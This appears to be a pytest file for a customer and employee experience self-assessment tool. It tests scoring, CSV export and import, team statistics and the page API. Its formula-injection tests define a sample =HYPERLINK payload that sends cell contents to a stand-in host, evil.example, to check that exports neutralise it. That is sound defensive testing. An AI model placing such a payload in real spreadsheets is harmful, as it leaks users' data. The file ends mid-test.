"""Self-assessments: scoring, CSV export and import, team statistics, the page API, vectors.

Expected team statistics are computed separately in the tests with :mod:`statistics` on the
hand-made lists of answers; expected means of single participants are written as the
fractions worked out by hand.
"""

from __future__ import annotations

import csv
import io
import json
import math
import statistics
from collections.abc import Callable, Mapping
from typing import Any

import pytest
import yaml
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from calculators.assessment import (
    MAX_ASPECTS,
    PROBLEM_CODES,
    ParticipantAnswers,
    ProblemCode,
    TeamImport,
    aggregate_team,
    api_export,
    api_score,
    api_team,
    read_team_csv,
    score_assessment,
    to_csv,
)
from calculators.assessment.team_csv import clean_name
from calculators.errors import ERROR_CODES, CalculatorError, Code
from calculators.results import to_jsonable
from tests.calculators.assessment_checks import (
    check_error_vector,
    check_vector,
    load_vectors,
    run_all,
)
from tests.conftest import ROOT

VECTORS = load_vectors()
CX: list[str] = VECTORS["aspect_sets"]["customer"]
EX: list[str] = VECTORS["aspect_sets"]["employee"]
ABCD = ["a", "b", "c", "d"]
ERROR_KEYS = {"code", "field", "values", "positions", "count", "params"}


def error_of(call: Callable[..., object], *args: object, **kwargs: object) -> CalculatorError:
    with pytest.raises(CalculatorError) as raised:
        call(*args, **kwargs)
    return raised.value


def problems_of(imported: TeamImport) -> list[tuple[int, str | None, str]]:
    return [(problem.row, problem.column, problem.code) for problem in imported.problems]


def names_of(imported: TeamImport) -> list[str]:
    return [participant.name for participant in imported.participants]


def lines(*rows: str, end: str = "\n") -> str:
    return "".join(row + end for row in rows)


HEADER = "participant,a,b,c,d"

# ---------------------------------------------------------------------------------------------
# The aspect lists


@pytest.mark.parametrize(
    ("name", "ids"),
    [("customer-experience-self-assessment", CX), ("employee-experience-self-assessment", EX)],
)
def test_vector_aspect_sets_are_the_frameworks_aspects(name: str, ids: list[str]) -> None:
    data = yaml.safe_load((ROOT / "glossary" / "frameworks" / f"{name}.yml").read_text("utf-8"))
    sections = {section["id"]: section for section in data["sections"]}
    assert [item["id"] for item in sections["aspects"]["items"]] == ids
    assert [str(item["id"]) for item in sections["scale"]["items"]] == ["1", "2", "3", "4"]
    assert len(ids) == 14


# ---------------------------------------------------------------------------------------------
# Scoring one participant


def test_all_answered_mean_profile_and_weakest() -> None:
    answers = dict(zip(CX, [3, 2, 4, 1, 2, 3, 3, 4, 2, 1, 3, 4, 2, 3], strict=True))
    result = score_assessment(CX, answers)
    assert (result.n_aspects, result.answered, result.unanswered) == (14, 14, 0)
    assert result.unanswered_aspects == ()
    assert result.mean == 37 / 14
    assert list(result.profile) == CX
    assert dict(result.profile) == answers
    assert result.weakest == (
        "easy-feedback-on-customer-initiative",
        "unit-information",
        "whole-customer-base-surveys",
    )
    assert (result.scale_min, result.scale_max) == (1, 4)


def test_ties_in_weakest_follow_the_aspect_order_not_the_answers_order() -> None:
    answers = {"d": 2, "c": 2, "b": 2, "a": 2}
    assert score_assessment(ABCD, answers).weakest == ("a", "b", "c")
    assert score_assessment(["d", "c", "b", "a"], answers).weakest == ("d", "c", "b")
    assert score_assessment(ABCD, {"a": 3, "b": 1, "c": 3, "d": 2}).weakest == ("b", "d", "a")


def test_unanswered_aspects_are_left_out_of_mean_and_weakest() -> None:
    result = score_assessment(EX, {"recruitment": "4", "ex-cx-link": 1, "onboarding": None})
    assert (result.answered, result.unanswered) == (2, 12)
    assert result.mean == 5 / 2
    assert result.weakest == ("ex-cx-link", "recruitment")
    assert result.unanswered_aspects == tuple(EX[1:13])
    assert result.profile["onboarding"] is None
    assert result.profile["recruitment"] == 4


def test_nothing_answered() -> None:
    result = score_assessment(ABCD, {"a": "", "b": "  ", "c": None})
    assert (result.answered, result.unanswered, result.mean, result.weakest) == (0, 4, None, ())
    assert result.unanswered_aspects == tuple(ABCD)
    assert score_assessment(ABCD, {}) == result


@pytest.mark.parametrize(
    ("value", "expected"),
    [("1", 1), (" 4 ", 4), ("+2", 2), ("03", 3), ("3.0", 3), ("\ufeff2", 2), (4.0, 4), (1, 1)],
)
def test_accepted_answers(value: object, expected: int) -> None:
    assert score_assessment(ABCD, {"b": value}).profile["b"] == expected  # type: ignore[dict-item]


@pytest.mark.parametrize(
    ("value", "code", "params"),
    [
        (0, Code.OUT_OF_RANGE, {"min": 1, "max": 4}),
        ("5", Code.OUT_OF_RANGE, {"min": 1, "max": 4}),
        ("-1", Code.OUT_OF_RANGE, {"min": 1, "max": 4}),
        ("2.5", Code.NOT_AN_INTEGER, {}),
        ("2,5", Code.NOT_AN_INTEGER, {}),
        (2.5, Code.NOT_AN_INTEGER, {}),
        ("kolm", Code.NOT_A_NUMBER, {}),
        ("Osaliselt olemas", Code.NOT_A_NUMBER, {}),
        ("1e0", Code.NOT_A_NUMBER, {}),
        ("nan", Code.NOT_FINITE, {}),
        (math.inf, Code.NOT_FINITE, {}),
        (True, Code.WRONG_TYPE, {"expected": "whole number 1-4 or blank"}),
        ([3], Code.WRONG_TYPE, {"expected": "whole number 1-4 or blank"}),
    ],
)
def test_bad_answers_name_the_aspect(value: object, code: str, params: dict[str, object]) -> None:
    error = error_of(score_assessment, CX, {"employee-views": value})
    assert error.code == code
    assert error.field == "employee-views"
    assert error.positions == (6,)
    assert error.count == 1
    assert dict(error.params) == params


def test_several_bad_answers_report_the_most_basic_problem_with_all_its_aspects() -> None:
    answers = {"a": "0", "b": "x", "c": "2.5", "d": "y"}
    error = error_of(score_assessment, ABCD, answers)
    assert (error.code, error.field, error.values, error.positions) == (
        Code.NOT_A_NUMBER,
        "b",
        ("x", "y"),
        (2, 4),
    )
    error = error_of(score_assessment, ABCD, {"a": "9", "d": "0"})
    assert (error.code, error.field, error.positions, error.count) == (
        Code.OUT_OF_RANGE,
        "a",
        (1, 4),
        2,
    )


def test_unknown_aspect_ids_in_answers() -> None:
    error = error_of(score_assessment, ABCD, {"a": 1, "e": 2, "x-y": 3})
    assert (error.code, error.field, error.values) == (Code.INVALID_OPTION, "e", ("e", "x-y"))
    assert error.params["allowed"] == tuple(ABCD)
    error = error_of(score_assessment, ABCD, {1: 1})
    assert (error.code, error.field) == (Code.WRONG_TYPE, "answers")
    error = error_of(score_assessment, ABCD, [("a", 1)])
    assert (error.code, error.field) == (Code.WRONG_TYPE, "answers")


@pytest.mark.parametrize(
    ("aspects", "code", "positions", "params"),
    [
        ("a b", Code.WRONG_TYPE, (), {"expected": "list of aspect ids"}),
        ([], Code.EMPTY, (), {}),
        (["a", 3], Code.WRONG_TYPE, (2,), {"expected": "text"}),
        (["a", "B", "c d", "e-", "", "12"], Code.INVALID_OPTION, (2, 3, 4, 5, 6), {"rule": "slug"}),
        (["a", "b", "a", "b"], Code.INVALID_OPTION, (3, 4), {"rule": "unique"}),
        (
            ["a", "participant"],
            Code.INVALID_OPTION,
            (2,),
            {"rule": "reserved", "reserved": ("participant", "aspects", "csv", "delimiter")},
        ),
        ([f"q{i}" for i in range(MAX_ASPECTS + 1)], Code.TOO_MANY_VALUES, (), {"limit": 100}),
    ],
)
def test_bad_aspect_lists(
    aspects: object, code: str, positions: tuple[int, ...], params: dict[str, object]
) -> None:
    error = error_of(score_assessment, aspects, {})
    assert (error.code, error.field, error.positions) == (code, "aspects", positions)
    assert dict(error.params) == params


# ---------------------------------------------------------------------------------------------
# CSV export


def test_export_writes_a_header_and_one_row() -> None:
    text = to_csv(ABCD, {"a": "3", "c": 1, "d": ""}, "Mari Tamm")
    assert text == "participant,a,b,c,d\r\nMari Tamm,3,,1,\r\n"
    assert to_csv(ABCD, {"b": 4}, "Mari", delimiter=";") == "participant;a;b;c;d\r\nMari;;4;;\r\n"


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("Tamm, Mari", '"Tamm, Mari"'),
        ("Tamm; Mari", '"Tamm; Mari"'),
        ('Mari "Mai" Tamm', '"Mari ""Mai"" Tamm"'),
        ("  Mari \r\n  Tamm\t", "Mari Tamm"),
        ("\ufeffJüri Õun", "Jüri Õun"),
    ],
)
def test_export_tidies_and_quotes_names(name: str, written: str) -> None:
    assert to_csv(["a"], {"a": 2}, name).splitlines()[1] == f"{written},2"


def test_export_errors() -> None:
    assert error_of(to_csv, ABCD, {}, "  ").code == Code.MISSING
    assert error_of(to_csv, ABCD, {}, None).code == Code.WRONG_TYPE
    error = error_of(to_csv, ABCD, {}, "Mari", delimiter="\t")
    assert (error.code, error.field, error.params["allowed"]) == (
        Code.INVALID_OPTION,
        "delimiter",
        (",", ";"),
    )
    error = error_of(to_csv, ABCD, {"c": "kolm"}, "Mari")
    assert (error.code, error.field) == (Code.NOT_A_NUMBER, "c")


# ---------------------------------------------------------------------------------------------
# CSV import: the well-formed cases


def test_import_one_export() -> None:
    imported = read_team_csv(ABCD, lines(HEADER, "Mari,3,,1,4"))
    assert imported.problems == ()
    assert imported.data_rows == 1
    assert imported.header_rows == (1,)
    (mari,) = imported.participants
    assert (mari.name, mari.row) == ("Mari", 2)
    assert dict(mari.answers) == {"a": 3, "b": None, "c": 1, "d": 4}
    assert list(mari.answers) == ABCD


def test_import_semicolons_bom_crlf_and_quoted_fields() -> None:
    text = '\ufeffparticipant;a;b;c;d\r\n"Tamm; Mari";1;2;3;4\r\n"Kask, ""Jüri""";"4";;2;\r\n'
    imported = read_team_csv(ABCD, text)
    assert imported.problems == ()
    assert names_of(imported) == ["Tamm; Mari", 'Kask, "Jüri"']
    assert dict(imported.participants[1].answers) == {"a": 4, "b": None, "c": 2, "d": None}


def test_import_reordered_and_missing_columns() -> None:
    imported = read_team_csv(ABCD, lines("d, Participant ,B", "4,Mari,1", ",Jüri,2"))
    assert imported.problems == ()
    assert dict(imported.participants[0].answers) == {"a": None, "b": 1, "c": None, "d": 4}
    assert dict(imported.participants[1].answers) == {"a": None, "b": 2, "c": None, "d": None}


def test_import_concatenated_exports_with_repeated_headers() -> None:
    one = to_csv(ABCD, {"a": 1, "b": 2}, "Mari")
    two = to_csv(ABCD, {"c": 3}, "Jüri")
    three = "\ufeff" + to_csv(ABCD, {"d": 4}, "Anu", delimiter=";")
    imported = read_team_csv(ABCD, one + two + "\r\n" + three)
    assert imported.problems == ()
    assert names_of(imported) == ["Mari", "Jüri", "Anu"]
    assert [p.row for p in imported.participants] == [2, 4, 7]
    assert imported.header_rows == (1, 3, 6)
    assert imported.data_rows == 3


def test_a_new_header_may_reorder_the_columns() -> None:
    text = lines(HEADER, "Mari,1,2,3,4", "participant,d,c,b,a", "Jüri,1,2,3,4")
    imported = read_team_csv(ABCD, text)
    assert [list(p.answers.values()) for p in imported.participants] == [
        [1, 2, 3, 4],
        [4, 3, 2, 1],
    ]


def test_quoted_line_breaks_keep_the_row_number_of_the_first_line() -> None:
    text = lines(HEADER, '"Mari\nTamm",1,2,3,4', "Jüri,1,2,3,x")
    imported = read_team_csv(ABCD, text)
    assert [(p.name, p.row) for p in imported.participants] == [("Mari Tamm", 2)]
    assert problems_of(imported) == [(4, "d", Code.NOT_A_NUMBER)]


def test_blank_lines_and_blank_rows_are_skipped_but_counted() -> None:
    text = lines("", HEADER, ",,,,", "  ", ";;;", "Mari,1,2,3,4", end="\r\n")
    imported = read_team_csv(ABCD, text)
    assert imported.problems == ()
    assert [(p.name, p.row) for p in imported.participants] == [("Mari", 6)]
    assert imported.header_rows == (2,)


def test_blank_fields_beyond_the_header_are_ignored() -> None:
    imported = read_team_csv(ABCD, lines(HEADER + ",", "Mari,1,2,3,4,,", "Jüri,1,2,3,4"))
    assert imported.problems == ()
    assert names_of(imported) == ["Mari", "Jüri"]


def test_only_a_header() -> None:
    imported = read_team_csv(CX, ",".join(["participant", *CX]))
    assert imported == TeamImport((), (), 0, (1,))
    team = aggregate_team(CX, imported.participants)
    assert (team.n_participants, team.mean, team.weakest) == (0, None, ())


@pytest.mark.parametrize("text", ["", "\n\n", " \r\n\t", "\ufeff", ";;;\n,,,"])
def test_empty_file(text: str) -> None:
    error = error_of(read_team_csv, ABCD, text)
    assert (error.code, error.field) == (Code.EMPTY, "csv")


def test_text_of_the_wrong_type() -> None:
    assert error_of(read_team_csv, ABCD, b"participant").code == Code.WRONG_TYPE


# ---------------------------------------------------------------------------------------------
# CSV import: the malformed cases, each with its row and column; the valid rows are still used


def test_broken_rows_with_the_wrong_number_of_fields() -> None:
    text = lines(HEADER, "Mari,1,2,3,4", "Jüri,1,2", "Anu,1,2,3,4,5", "Eva,1,2,3,4")
    imported = read_team_csv(ABCD, text)
    assert names_of(imported) == ["Mari", "Eva"]
    assert problems_of(imported) == [
        (3, "c", ProblemCode.WRONG_FIELD_COUNT),
        (4, None, ProblemCode.WRONG_FIELD_COUNT),
    ]
    assert dict(imported.problems[0].params) == {"expected": 5, "found": 3}
    assert imported.problems[0].value == "Jüri,1,2"
    assert dict(imported.problems[1].params) == {"expected": 5, "found": 6}


@pytest.mark.parametrize(
    ("value", "code", "params"),
    [
        ("0", Code.OUT_OF_RANGE, {"min": 1, "max": 4}),
        ("5", Code.OUT_OF_RANGE, {"min": 1, "max": 4}),
        ("2.5", Code.NOT_AN_INTEGER, {}),
        ('"2,5"', Code.NOT_AN_INTEGER, {}),
        ("kolm", Code.NOT_A_NUMBER, {}),
        ("inf", Code.NOT_FINITE, {}),
    ],
)
def test_wrong_scale_values(value: str, code: str, params: dict[str, object]) -> None:
    text = lines(HEADER, "Mari,1,2,3,4", f"Jüri,1,{value},3,4", "Anu,4,3,2,1")
    imported = read_team_csv(ABCD, text)
    assert names_of(imported) == ["Mari", "Anu"]
    (problem,) = imported.problems
    assert (problem.row, problem.column, problem.code) == (3, "b", code)
    assert problem.value == value.strip('"')
    assert dict(problem.params) == params


def test_every_bad_value_of_a_row_is_reported() -> None:
    imported = read_team_csv(ABCD, lines(HEADER, "Mari,0,kolm,2.5,5"))
    assert imported.participants == ()
    assert problems_of(imported) == [
        (2, "a", Code.OUT_OF_RANGE),
        (2, "b", Code.NOT_A_NUMBER),
        (2, "c", Code.NOT_AN_INTEGER),
        (2, "d", Code.OUT_OF_RANGE),
    ]
    assert [problem.value for problem in imported.problems] == ["0", "kolm", "2.5", "5"]


def test_duplicate_participants_keep_the_first() -> None:
    text = lines(HEADER, "Mari Tamm,1,1,1,1", "Jüri,2,2,2,2", " mari  TAMM ,3,3,3,3")
    imported = read_team_csv(ABCD, text)
    assert names_of(imported) == ["Mari Tamm", "Jüri"]
    assert imported.participants[0].answers["a"] == 1
    (problem,) = imported.problems
    assert (problem.row, problem.column, problem.code, problem.value) == (
        4,
        "participant",
        ProblemCode.DUPLICATE_PARTICIPANT,
        "mari TAMM",
    )
    assert dict(problem.params) == {"first_row": 2}


def test_a_name_whose_first_row_was_left_out_may_come_again() -> None:
    imported = read_team_csv(ABCD, lines(HEADER, "Mari,1,1,1,9", "Mari,1,1,1,1"))
    assert [(p.name, p.row) for p in imported.participants] == [("Mari", 3)]
    assert problems_of(imported) == [(2, "d", Code.OUT_OF_RANGE)]


def test_a_row_without_a_participant_name() -> None:
    imported = read_team_csv(ABCD, lines(HEADER, ",1,2,3,4", '"  ",1,2,3,4', "Mari,1,2,3,4"))
    assert names_of(imported) == ["Mari"]
    assert problems_of(imported) == [
        (2, "participant", ProblemCode.MISSING_PARTICIPANT),
        (3, "participant", ProblemCode.MISSING_PARTICIPANT),
    ]


def test_unknown_and_duplicate_columns_are_reported_on_the_header() -> None:
    text = lines("participant,a,Kommentaar,b,A,", "Mari,1,hea,2,3", "Jüri,2,,3,4")
    imported = read_team_csv(ABCD, text)
    assert problems_of(imported) == [
        (1, "Kommentaar", ProblemCode.UNKNOWN_COLUMN),
        (1, "a", ProblemCode.DUPLICATE_COLUMN),
    ]
    assert imported.problems[1].value == "A"
    short = read_team_csv(ABCD, lines("participant,a,Kommentaar,b", "Mari,1"))
    assert problems_of(short)[1:] == [(2, None, ProblemCode.WRONG_FIELD_COUNT)]
    assert [dict(p.answers) for p in imported.participants] == [
        {"a": 1, "b": 2, "c": None, "d": None},
        {"a": 2, "b": 3, "c": None, "d": None},
    ]


def test_a_value_under_a_blank_header_cell() -> None:
    imported = read_team_csv(ABCD, lines("participant,a,,b", "Mari,1,,2", "Jüri,1,7,2"))
    assert names_of(imported) == ["Mari"]
    assert problems_of(imported) == [(3, None, ProblemCode.UNKNOWN_COLUMN)]
    assert imported.problems[0].value == "7"


def test_a_header_without_the_participant_column() -> None:
    imported = read_team_csv(ABCD, lines("a,b,c,d", "1,2,3,4", HEADER, "Mari,1,2,3,4"))
    assert names_of(imported) == ["Mari"]
    assert problems_of(imported) == [
        (1, "participant", ProblemCode.MISSING_COLUMN),
        (2, "participant", ProblemCode.MISSING_PARTICIPANT),
    ]


def test_rows_before_any_header() -> None:
    text = lines("Kliendikogemuse enesehindamine", "Mari,1,2,3,4", HEADER, "Jüri,1,2,3,4")
    imported = read_team_csv(ABCD, text)
    assert names_of(imported) == ["Jüri"]
    assert problems_of(imported) == [
        (1, None, ProblemCode.MISSING_HEADER),
        (2, None, ProblemCode.MISSING_HEADER),
    ]
    assert imported.data_rows == 3


def test_an_unclosed_quote_spoils_only_its_own_row() -> None:
    text = lines(HEADER, 'Mari,1,"2,3,4', "Jüri,1,2,3,4", "Anu,4,4,4,4")
    imported = read_team_csv(ABCD, text)
    assert names_of(imported) == ["Jüri", "Anu"]
    assert problems_of(imported) == [(2, None, ProblemCode.UNCLOSED_QUOTE)]


def test_names_that_look_like_headers_are_names() -> None:
    text = lines(HEADER, "participant,1,2,3,4", "a,,,,", "Participant 7,1,1,1,1")
    imported = read_team_csv(ABCD, text)
    assert imported.problems == ()
    assert names_of(imported) == ["participant", "a", "Participant 7"]
    assert imported.header_rows == (1,)


def test_problem_values_are_cut() -> None:
    imported = read_team_csv(ABCD, lines(HEADER, "Mari,1,2,3," + "x" * 100))
    assert len(imported.problems[0].value) == 40
    assert imported.problems[0].value.endswith("…")


# ---------------------------------------------------------------------------------------------
# Round trip


def test_export_then_import_round_trip() -> None:
    answers: dict[str, int | str | None] = {aspect: (i % 4) + 1 for i, aspect in enumerate(EX)}
    answers["onboarding"] = None
    for delimiter in (",", ";"):
        text = to_csv(EX, answers, 'Tamm, "Mari"; Õie', delimiter=delimiter)
        imported = read_team_csv(EX, text)
        assert imported.problems == ()
        (participant,) = imported.participants
        assert participant.name == 'Tamm, "Mari"; Õie'
        assert dict(participant.answers) == answers


# ---------------------------------------------------------------------------------------------
# Formula injection: a name that a spreadsheet would run is written as text, and read back

#: What a spreadsheet reads as the start of a formula (OWASP's list and the full-width forms).
FORMULA_STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def spreadsheet_rows(text: str, delimiter: str = ",") -> list[list[str]]:
    """The cells as a spreadsheet program sees them (Python's csv module)."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+372 5555 5555", "'+372 5555 5555"),
        ("-Mari", "'-Mari"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("'=already marked", "''=already marked"),
        ("'Mari", "'Mari"),
        ("Mari = Mai", "Mari = Mai"),
        ("  =1+1", "'=1+1"),
    ],
)
def test_export_marks_names_that_start_like_a_formula(name: str, cell: str) -> None:
    for delimiter in (",", ";"):
        rows = spreadsheet_rows(to_csv(ABCD, {"a": 2}, name, delimiter=delimiter), delimiter)
        assert rows[1][0] == cell


def test_export_keeps_answers_numbers_and_quotes_a_marked_name() -> None:
    text = to_csv(ABCD, {"a": "+2", "b": " 4 ", "c": 1}, HYPERLINK)
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",2,4,1,'
    (header, row) = spreadsheet_rows(text)
    assert header == ["participant", *ABCD]
    assert row[0] == "'" + HYPERLINK
    # The answers are numbers, written as numbers: no apostrophe, no sign.
    assert row[1:] == ["2", "4", "1", ""]
    assert [int(cell) for cell in row[1:4]] == [2, 4, 1]


def test_a_marked_name_reads_back_without_its_apostrophe() -> None:
    names = [HYPERLINK, "@SUM(1+1)", "-Mari", "'=already marked", "'Mari", "\uff20x"]
    text = "".join(to_csv(ABCD, {"a": 1}, name) for name in names)
    written = [row[0] for row in spreadsheet_rows(text)[1::2]]
    assert written == ["'" + name for name in names[:4]] + names[4:5] + ["'\uff20x"]
    imported = read_team_csv(ABCD, text)
    assert imported.problems == ()
    assert names_of(imported) == names


def test_a_hand_marked_name_loses_exactly_one_apostrophe() -> None:
    text = lines(HEADER, "'=x,1,,,", "''-y,1,,,", "'z,1,,,", "'',1,,,", "' =w,1,,,")
    assert names_of(read_team_csv(ABCD, text)) == ["=x", "'-y", "'z", "''", "' =w"]


def test_api_export_marks_the_name() -> None:
    answer = api_export({"aspects": "a b", "a": "3", "participant": "@SUM(1+1)"})
    assert answer["ok"] is True
    assert answer["result"]["csv"] == "participant,a,b\r\n'@SUM(1+1),3,\r\n"
    team = api_team({"aspects": "a b", "csv": answer["result"]["csv"]})
    assert team["result"]["participants"][0]["name"] == "@SUM(1+1)"


@settings(max_examples=300)
@given(
    st.text(alphabet=st.sampled_from(FORMULA_STARTS + "'= aA,;\"")) | st.text(),
    st.sampled_from([",", ";"]),
)
def test_no_written_name_starts_a_formula_and_every_name_reads_back(
    name: str, delimiter: str
) -> None:
    tidy = clean_name(name)
    assume(tidy)
    text = to_csv(ABCD, {"a": 1, "b": 4}, name, delimiter=delimiter)
    cell = spreadsheet_rows(text, delimiter)[1][0]
    assert cell[:1] not in set(FORMULA_STARTS)
    assert cell == tidy or cell == "'" + tidy
    imported = read_team_csv(ABCD, text)
    assert imported.problems == ()
    assert names_of(imported) == [tidy]


# ---------------------------------------------------------------------------------------------
# Team aggregation, checked against the statistics module on the same lists


TEAM: dict[str, dict[str, int | None]] = {
    "Mari": {"a": 4, "b": 2, "c": 1, "d": 3},
    "Jüri": {"a": 3, "b": 2, "c": None, "d": 3},
    "Anu": {"a": 4, "b": 1, "c": 2, "d": 4},
    "Eva": {"a": 2, "b": None, "c": None, "d": 3},
    "Ott": {"a": None, "b": None, "c": None, "d": None},
}


def test_team_statistics_match_the_statistics_module() -> None:
    team = aggregate_team(ABCD, list(TEAM.values()))
    assert (team.n_aspects, team.n_participants, team.n_scored) == (4, 5, 4)
    for summary, aspect in zip(team.aspects, ABCD, strict=True):
        column = [v for answers in TEAM.values() if (v := answers[aspect]) is not None]
        assert summary.aspect == aspect
        assert summary.n == len(column)
        assert summary.mean == pytest.approx(statistics.fmean(column), abs=1e-15)
        assert (summary.min, summary.max) == (min(column), max(column))
        expected_sd = statistics.stdev(column) if len(column) > 1 else None
        if expected_sd is None:
            assert summary.standard_deviation is None
        else:
            assert summary.standard_deviation == pytest.approx(expected_sd, abs=1e-15)
        assert summary.counts == tuple(column.count(k) for k in (1, 2, 3, 4))
    own_means = [
        statistics.fmean([v for v in answers.values() if v is not None])
        for answers in TEAM.values()
        if any(v is not None for v in answers.values())
    ]
    assert team.participant_means[:4] == pytest.approx(own_means, abs=1e-15)
    assert team.participant_means[4] is None
    assert team.mean == pytest.approx(statistics.fmean(own_means), abs=1e-15)
    # Team means: a 13/4, b 5/3, c 3/2, d 13/4.
    assert team.weakest == ("c", "b", "a")


def test_team_sd_needs_two_answers_and_unanswered_aspects_have_no_figures() -> None:
    team = aggregate_team(ABCD, [{"a": 3, "b": 2}, {"a": 3}])
    a, b, c, _ = team.aspects
    assert (a.n, a.mean, a.standard_deviation) == (2, 3.0, 0.0)
    assert (b.n, b.mean, b.standard_deviation, b.min, b.max) == (1, 2.0, None, 2, 2)
    assert (c.n, c.mean, c.standard_deviation, c.min, c.max) == (0, None, None, None, None)
    assert c.counts == (0, 0, 0, 0)
    assert team.weakest == ("b", "a")
    # Each participant weighs the same: (5/2 + 3) / 2.
    assert team.mean == 2.75


def test_team_accepts_imported_participants() -> None:
    imported = read_team_csv(ABCD, lines(HEADER, "Mari,4,2,1,3", "Jüri,3,2,,3"))
    direct = aggregate_team(ABCD, [TEAM["Mari"], TEAM["Jüri"]])
    assert aggregate_team(ABCD, imported.participants) == direct


def test_team_weakest_ties_follow_the_aspect_order() -> None:
    # a: 7/3, b: 14/6 = 7/3, c: 7/3 -- equal fractions from different sums.
    members = [{"a": 3, "b": 3, "c": 1}, {"a": 2, "b": 3, "c": 3}, {"a": 2, "b": 2, "c": 3}]
    members += [{"b": 2}, {"b": 2}, {"b": 2}]
    team = aggregate_team(["c", "b", "a"], members)
    assert [s.mean for s in team.aspects] == [7 / 3, 7 / 3, 7 / 3]
    assert team.weakest == ("c", "b", "a")


def test_team_errors_name_the_participant() -> None:
    error = error_of(aggregate_team, ABCD, [{"a": 1}, {"b": "kolm"}])
    assert (error.code, error.field, error.params["participant"]) == (Code.NOT_A_NUMBER, "b", 2)
    error = error_of(aggregate_team, ABCD, [{"a": 1}, "a=1"])
    assert (error.code, error.field, error.params["participant"]) == (
        Code.WRONG_TYPE,
        "participants",
        2,
    )
    assert error_of(aggregate_team, ABCD, {"a": 1}).field == "participants"


# ---------------------------------------------------------------------------------------------
# The page API


def assert_plain(value: Any) -> None:
    """Only str, int, float, bool, None, list and dict (with str keys), all the way down."""
    if isinstance(value, dict):
        for key, item in value.items():
            assert type(key) is str
            assert_plain(item)
    elif isinstance(value, list):
        for item in value:
            assert_plain(item)
    else:
        assert value is None or type(value) in (str, int, float, bool), repr(value)


def ok(answer: dict[str, Any]) -> dict[str, Any]:
    assert_plain(answer)
    assert json.loads(json.dumps(answer, allow_nan=False)) == answer
    assert set(answer) == {"ok", "result"}, answer
    result: dict[str, Any] = answer["result"]
    return result


def failed(answer: dict[str, Any]) -> dict[str, Any]:
    assert_plain(answer)
    assert set(answer) == {"ok", "error"}, answer
    assert answer["ok"] is False
    error: dict[str, Any] = answer["error"]
    assert set(error) == ERROR_KEYS
    return error


def test_api_score_matches_the_python_api() -> None:
    form = {"aspects": "\n".join(CX), CX[0]: "3", CX[5]: " 1 ", CX[13]: "", "other": "x"}
    direct = score_assessment(CX, {CX[0]: 3, CX[5]: 1})
    assert ok(api_score(form)) == to_jsonable(direct)
    assert ok(api_score({"aspects": ", ".join(CX), CX[0]: "3", CX[5]: "1"})) == to_jsonable(direct)
    listed: dict[str, Any] = {"aspects": CX, CX[0]: "3", CX[5]: "1"}
    assert ok(api_score(listed)) == to_jsonable(direct)


def test_api_score_result_keys() -> None:
    result = ok(api_score({"aspects": "a b", "a": "2"}))
    assert result == {
        "scale_min": 1,
        "scale_max": 4,
        "n_aspects": 2,
        "answered": 1,
        "unanswered": 1,
        "unanswered_aspects": ["b"],
        "mean": 2.0,
        "profile": {"a": 2, "b": None},
        "weakest": ["a"],
    }


def test_api_export_and_team_round_trip() -> None:
    forms = [
        {"aspects": " ".join(EX), EX[0]: "4", EX[1]: "2", "participant": "Mari"},
        {"aspects": " ".join(EX), EX[0]: "2", EX[13]: "1", "participant": "Jüri"},
        {"aspects": " ".join(EX), EX[0]: "3", "participant": "Anu", "delimiter": ";"},
    ]
    text = "".join(ok(api_export(form))["csv"] for form in forms)
    result = ok(api_team({"aspects": " ".join(EX), "csv": text}))
    assert set(result) == {"participants", "problems", "data_rows", "header_rows", "team"}
    assert [p["name"] for p in result["participants"]] == ["Mari", "Jüri", "Anu"]
    assert result["problems"] == []
    assert result["header_rows"] == [1, 3, 5]
    recruitment = result["team"]["aspects"][0]
    assert recruitment == {
        "aspect": "recruitment",
        "n": 3,
        "mean": 3.0,
        "min": 2,
        "max": 4,
        "standard_deviation": 1.0,
        "counts": [0, 1, 1, 1],
    }
    assert result["team"]["weakest"] == ["ex-cx-link", "onboarding", "recruitment"]


def test_api_team_reports_problems_as_plain_data() -> None:
    text = lines(HEADER, "Mari,1,2,3,4", "Mari,1,2,3,4", "Jüri,0,,,")
    result = ok(api_team({"aspects": "a b c d", "csv": text}))
    assert result["problems"] == [
        {
            "row": 3,
            "column": "participant",
            "code": "duplicate_participant",
            "value": "Mari",
            "params": {"first_row": 2},
        },
        {
            "row": 4,
            "column": "a",
            "code": "out_of_range",
            "value": "0",
            "params": {"min": 1, "max": 4},
        },
    ]
    assert result["team"]["n_participants"] == 1


@pytest.mark.parametrize(
    ("call", "form", "code", "field"),
    [
        (api_score, {}, Code.MISSING, "aspects"),
        (api_score, {"aspects": "a b", "b": "viis"}, Code.NOT_A_NUMBER, "b"),
        (api_score, {"aspects": "a B"}, Code.INVALID_OPTION, "aspects"),
        (api_score, {"aspects": 5}, Code.WRONG_TYPE, "aspects"),
        (api_score, None, Code.WRONG_TYPE, None),
        (api_score, {"aspects": "a", "a": 2.5}, Code.NOT_AN_INTEGER, "a"),
        (api_export, {"aspects": "a"}, Code.MISSING, "participant"),
        (api_export, {"aspects": "a", "participant": 7}, Code.WRONG_TYPE, "participant"),
        (
            api_export,
            {"aspects": "a", "participant": "M", "delimiter": "|"},
            "invalid_option",
            None,
        ),
        (api_export, {"aspects": "a", "a": "5", "participant": ""}, Code.OUT_OF_RANGE, "a"),
        (api_team, {"aspects": "a"}, Code.EMPTY, "csv"),
        (api_team, {"aspects": "a", "csv": ["x"]}, Code.WRONG_TYPE, "csv"),
        (api_team, {"aspects": "a", "csv": "x" * 2_000_001}, Code.INPUT_TOO_LONG, "csv"),
    ],
)
def test_api_errors(
    call: Callable[[Any], dict[str, Any]], form: Any, code: str, field: str | None
) -> None:
    error = failed(call(form))
    assert error["code"] == code
    if field is not None:
        assert error["field"] == field


def test_api_never_lets_a_defect_escape(monkeypatch: pytest.MonkeyPatch) -> None:
    import calculators.assessment.api as assessment_api

    def broken(*_: object) -> object:
        raise ZeroDivisionError

    monkeypatch.setattr(assessment_api, "aggregate_team", broken)
